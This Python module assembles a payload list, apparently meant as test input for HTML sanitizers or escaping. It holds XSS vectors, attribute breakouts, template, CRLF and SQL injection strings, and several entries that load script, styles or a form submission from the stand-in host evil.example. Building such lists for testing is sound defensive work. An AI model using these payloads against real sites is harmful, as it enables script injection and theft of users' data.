"""Texts that are script, or an attribute that is, wherever a page would not take them for text."""

from __future__ import annotations

import itertools
from typing import Final

_SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=x><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\x0b>alert(1)</script\x0b>",
    "<<script>alert(1)//<</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
)
# What would end where the text stands: an attribute, a text area, a title, a cell, a comment.
_ENDS: Final = ('"', "'", "`", ">", '">', "'>", "</textarea>", "</title>", "</code></pre>", "-->", "]]>", "</svg>")
_OTHERS: Final = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '" style="background:url(//evil.example)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "vbscript:msgbox(1)",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>\u202c",
    "\u2028<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%0d%0aSet-Cookie: x=1",
    "\r\nSet-Cookie: x=1",
    "' OR 1=1 --",
    '=HYPERLINK("//evil.example")',
)
PAYLOADS: Final = tuple(
    dict.fromkeys(
        (
            *_SCRIPTS,
            *(end + script for end, script in itertools.product(_ENDS, _SCRIPTS[:5])),
            *_OTHERS,
        )
    )
)
